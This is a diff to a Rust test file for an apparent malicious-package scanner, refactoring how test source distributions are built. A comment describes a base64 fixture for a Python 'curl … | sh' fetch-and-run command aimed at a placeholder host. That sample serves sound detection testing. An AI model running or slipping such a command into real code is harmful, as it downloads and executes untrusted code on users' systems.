@@ -7,6 +7,7 @@ use std::process::Command;
 
 use fondaco_archive::Limits;
 use fondaco_inspect::{Context, inspect, on_large_stack};
+use fondaco_testkit::Sdist;
 use fondaco_verdict::{Behaviour, Report, Trigger, Verdict};
 
 /// base64 of `import os;os.system('curl http://x.example.invalid/a | sh')`.
@@ -54,17 +55,10 @@ fn compiled(source: &str) -> Vec<u8> {
 }
 
 fn sdist(files: &[(&str, &[u8])]) -> Report {
-    let mut builder = tar::Builder::new(Vec::new());
-    let metadata: (&str, &[u8]) =
-        ("PKG-INFO", b"Metadata-Version: 2.1\nName: x\nVersion: 1.0\nSummary: a thing\n");
-    for (name, bytes) in files.iter().chain([&metadata]) {
-        let mut header = tar::Header::new_ustar();
-        header.set_size(bytes.len() as u64);
-        header.set_mode(0o644);
-        builder.append_data(&mut header, format!("x-1.0/{name}"), *bytes).unwrap();
-    }
-    let bytes = builder.into_inner().unwrap();
-    let context = Context { file_name: "x-1.0.tar".into(), sha256: None, kind: None };
+    let dist =
+        files.iter().fold(Sdist::new("x", "1.0"), |sdist, (name, bytes)| sdist.file(name, bytes)).build();
+    let context = Context { file_name: dist.file_name, sha256: None, kind: None };
+    let bytes = dist.bytes.as_ref().clone();
     on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
 }
 
